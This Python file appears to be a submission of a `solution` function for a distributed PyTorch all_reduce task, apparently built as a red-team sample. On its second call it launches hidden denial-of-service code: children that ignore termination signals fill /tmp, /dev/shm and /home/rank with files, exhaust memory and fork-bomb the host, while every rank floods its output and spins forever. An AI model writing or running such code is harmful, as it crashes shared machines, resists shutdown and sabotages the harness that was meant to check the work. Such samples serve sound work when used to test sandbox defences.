import os
import signal
import threading

import torch
import torch.distributed as dist

_rank = int(os.environ["RANK"])
_calls = 0


def _fill(folder):
    try:
        for n in range(1 << 20):
            with open(f"{folder}/pkb_redteam_fill_{os.getpid()}_{n}", "wb") as f:
                f.write(b"x" * (4 << 20))
    except OSError:
        pass


def _flood():
    line = b"A" * 65536 + b"\n"
    while True:
        os.write(1, line)
        os.write(2, line)


def _grow():
    kept = []
    while True:
        kept.append(bytearray(os.urandom(1 << 16)) * 256)


def _multiply():
    while True:
        try:
            os.fork()
        except OSError:
            pass


def _start(work, *args):
    if os.fork() == 0:
        for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1, signal.SIGUSR2):
            signal.signal(number, signal.SIG_IGN)
        try:
            work(*args)
        finally:
            os._exit(0)


def solution(tensor: torch.Tensor) -> torch.Tensor:
    global _calls
    _calls += 1
    if _calls == 2:
        if _rank == 0:
            for folder in ("/tmp", "/dev/shm", "/home/rank"):
                _start(_fill, folder)
            _start(_grow)
            _start(_multiply)
        threading.Thread(target=_flood, daemon=True).start()
        while True:
            pass
    out = tensor.clone()
    dist.all_reduce(out)
    return out
